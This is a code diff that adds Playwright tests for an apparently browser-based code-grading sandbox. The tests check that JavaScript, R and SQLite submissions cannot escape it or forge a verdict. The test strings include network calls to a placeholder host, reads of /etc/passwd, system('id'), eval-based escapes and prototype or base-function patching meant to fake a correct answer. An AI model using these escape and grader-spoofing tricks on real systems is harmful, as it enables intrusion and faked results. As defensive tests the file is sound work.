@@ -1,5 +1,6 @@
 import { expect, type Page } from '@playwright/test'
 import type { Json } from '#core/bank/case'
+import type { SandboxLanguage } from '#core/session/run-protocol'
 import { differ } from '#core/session/differ'
 import type { Produced } from '#core/session/verdict'
 import { attemptScript, attempts, freeAttempts } from './sandbox-attempts.ts'
@@ -126,6 +127,39 @@ test.describe('escapes from SQL', () => {
   }
 })
 
+test.describe('escapes from the other languages', () => {
+  const r = (body: string): [SandboxLanguage, string, string] => ['r', body, `f <- function() {\n  ${body}\n}`]
+  const javascript = (body: string): [SandboxLanguage, string, string] => ['javascript', body, `function f() {\n  return ${body}\n}`]
+  const attempts: [SandboxLanguage, string, string][] = [
+    ...['fetch("http://HOST/")', 'new XMLHttpRequest()', 'new WebSocket("ws://HOST/")', 'new EventSource("http://HOST/")', 'importScripts("http://HOST/")', 'import("http://HOST/x.js")',
+      'navigator.sendBeacon("http://HOST/", "x")', 'new RTCPeerConnection()', 'Object.assign(new Image(), { src: "http://HOST/" })', 'new FontFace("x", "url(http://HOST/)").load()', 'new Worker("x.js")',
+      'new SharedWorker("x.js")', 'require("fs")', 'process.env', 'window.parent', 'parent.document', 'self.postMessage(1)', 'postMessage({ type: "case" })', 'indexedDB.open("x")',
+      '[].constructor.constructor("return fetch")()("http://HOST/")', 'console.log.constructor("return fetch")()("http://HOST/")', '(0, eval)("fetch")("http://HOST/")'].map(javascript),
+    ...['download.file("http://HOST/", "x")', 'readLines(url("http://HOST/"))', 'webr::eval_js("1 + 1")', 'webr::eval_js("fetch(\'http://HOST/\')")', 'readLines(socketConnection("127.0.0.1", PORT, timeout = 1))',
+      'install.packages("x", repos = "http://HOST/", quiet = TRUE); stop("got nowhere")', 'system("id", intern = TRUE)', 'readLines(pipe("id"))', 'readLines("/etc/passwd")',
+      'dyn.load("/usr/lib/R/library/webr/libs/webr.so")', 'webr::mount("/x", "http://HOST/x.data"); stop("got nowhere")'].map(r),
+  ]
+  for (const [language, name, code] of attempts) {
+    test(`${language}: ${name} gets nowhere`, async ({ shown, site }) => {
+      const [before, asked] = [site.canary.connections(), site.asked.length]
+      const tried = code.replaceAll('HOST', `${site.canary.host}:${site.canary.port}`).replaceAll('PORT', String(site.canary.port))
+      const [produced] = await run(shown, language, { code: tried, cases: [{ caseId: 'a', args: [] }] }, 15_000)
+      expect(produced?.outcome, JSON.stringify(produced)).toMatch(/^(raised|memory)$/)
+      expect(site.canary.connections()).toBe(before)
+      expect(site.asked).toHaveLength(asked)
+    })
+  }
+  const statements = ["attach '/tmp/x.db' as x", "select load_extension('x')", "select readfile('/etc/passwd')", "select writefile('/tmp/x', 'y')", "vacuum into '/tmp/x.db'", 'pragma hard_heap_limit = 1',
+    '-- x\n explain pragma hard_heap_limit = 1', 'select 1 as a; pragma hard_heap_limit = 1', 'create table u (a int)', 'insert into t values (2) returning a', "select * from fts5vocab('t', 'row')"]
+  for (const code of statements) {
+    test(`sqlite: ${code} is refused`, async ({ shown }) => {
+      const cases = [{ caseId: 'a', setup: 'create table t (a int); insert into t values (1)' }]
+      expect(firstOf(await run(shown, 'sqlite', { code, cases }))).toMatchObject({ outcome: 'raised' })
+      expect(firstOf(await run(shown, 'sqlite', { code: 'select count(*) as n from t', cases }))).toMatchObject({ value: { columns: ['n'], rows: [[1]] } })
+    })
+  }
+})
+
 test.describe('results cannot be forged', () => {
   const isRight = (produced: Produced | undefined, want: Json): boolean => produced?.outcome === 'returned' && produced.value !== undefined && differ(produced.value, want, {}).message === null
   const tricks: Record<string, string> = {
@@ -143,6 +177,28 @@ test.describe('results cannot be forged', () => {
       expect(produced, JSON.stringify(produced)).toBeDefined()
       expect(isRight(produced, 42), JSON.stringify(produced)).toBe(false)
       expect(firstOf(await run(shown, 'python', samples.python.good))).toMatchObject({ outcome: 'returned', value: samples.python.good.value })
+    })
+  }
+
+  const others: [SandboxLanguage, string, string][] = [
+    ['javascript', 'JSON, Array and Object patched', 'JSON.parse = () => 42\nJSON.stringify = () => "42"\nArray.prototype.map = Array.prototype.join = Array.prototype.push = () => "42"\nArray.prototype.toJSON = Object.prototype.toJSON = Number.prototype.toJSON = () => 42\nObject.prototype.valueText = "42"\nObject.keys = Reflect.ownKeys = () => []\nString.prototype.slice = () => "42"\nfunction f() {\n  return 41\n}'],
+    ['javascript', 'a Proxy', 'function f() {\n  return new Proxy({}, { get: () => 42, ownKeys: () => ["outcome"], getOwnPropertyDescriptor: () => ({ value: 42, enumerable: true, configurable: true }) })\n}'],
+    ['javascript', 'an object that becomes a number', 'function f() {\n  return { valueOf: () => 42, toString: () => "42", toJSON: () => 42, [Symbol.toPrimitive]: () => 42 }\n}'],
+    ['javascript', 'an array that reads differently', 'class Odd extends Array {\n  get [Symbol.toStringTag]() { return "Number" }\n  *[Symbol.iterator]() { yield 42 }\n}\nfunction f() {\n  return Odd.from([41])\n}'],
+    ['javascript', 'a tag made by hand', 'function f() {\n  return { $int: "42" }\n}'],
+    ['javascript', 'console.log taken for the way out', 'function f() {\n  console.log = () => 42\n  return 41\n}'],
+    ['r', 'print, identical and operators patched', 'print <- identical <- all.equal <- function(...) TRUE\n`==` <- function(...) TRUE\nf <- function() 41'],
+    ['r', 'functions of base replaced', 'for (name in c("get", "exists", "do.call", "identical")) {\n  unlockBinding(name, baseenv())\n  assign(name, function(...) function(...) 42, baseenv())\n}\nf <- function() 41'],
+    ['r', 'methods of a class', 'length.odd <- function(x) 1L\nas.numeric.odd <- function(x, ...) 42\n`[[.odd` <- `[.odd` <- function(x, ...) 42\nformat.odd <- as.character.odd <- function(x, ...) "42"\nf <- function() structure(41, class = "odd")'],
+    ['r', 'the harness looked up by frames', 'f <- function() {\n  for (one in sys.frames()) if (exists("state", one)) get("state", one)$value <- list(42)\n  41\n}'],
+  ]
+  for (const [language, name, code] of others) {
+    test(`${language}: ${name} stays what it is`, async ({ shown }) => {
+      const [produced] = await run(shown, language, { code, cases: [{ caseId: 'a', args: [] }] })
+      expect(produced, JSON.stringify(produced)).toBeDefined()
+      // Replacing base functions may make R say 42: that is then what this program produces. It must not outlive its run.
+      if (name !== 'functions of base replaced') expect(isRight(produced, 42), JSON.stringify(produced)).toBe(false)
+      expect(firstOf(await run(shown, language, samples[language].good))).toMatchObject({ outcome: 'returned', value: samples[language].good.value })
     })
   }
 
